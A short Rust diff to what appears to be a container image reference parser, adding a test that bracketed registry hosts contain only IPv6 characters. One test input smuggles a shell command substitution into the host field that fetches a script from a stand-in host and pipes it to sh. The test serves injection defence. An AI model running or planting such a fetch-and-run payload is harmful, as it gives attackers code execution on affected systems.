@@ -160,7 +160,7 @@ fn match_reference(full: &str) -> Option<(&str, Option<&str>, Option<&str>)> {
 
 /// `domainAndPort`: a domain name of `[a-zA-Z0-9-]` labels (no edge hyphens) or a bracketed
 /// `[hex and colons]`, then an optional `:digits` port of any length.
-fn is_domain_and_port(text: &str) -> bool {
+pub(crate) fn is_domain_and_port(text: &str) -> bool {
     let host_end = if text.starts_with('[') {
         match text.find(']') {
             Some(end)
@@ -197,7 +197,7 @@ fn is_domain_and_port(text: &str) -> bool {
 }
 
 /// `remoteName`: path components of `[a-z0-9]+` joined by `.`, `_`, `__` or runs of `-`.
-fn is_remote_name(path: &str) -> bool {
+pub(crate) fn is_remote_name(path: &str) -> bool {
     path.split('/').all(|component| {
         let bytes = component.as_bytes();
         if bytes.is_empty() || !is_alnum(bytes[0]) || !is_alnum(bytes[bytes.len() - 1]) {
@@ -274,6 +274,14 @@ fn check_digest(digest: &str) -> Result<(), &'static str> {
 
 #[cfg(test)]
 mod tests {
+    /// A bracketed host is only hex digits and colons (distribution/reference's
+    /// `ipv6address`), so shell syntax cannot pose as a registry host.
+    #[test]
+    fn bracketed_hosts_hold_only_ipv6_characters() {
+        assert!(ImageRef::parse("[$(curl${IFS}-s${IFS}evil.sh|sh)]/app:1").is_err());
+        assert!(ImageRef::parse("[fe80::1]:5000/app:1").is_ok());
+    }
+
     use super::*;
 
     fn repo(image: &str) -> String {
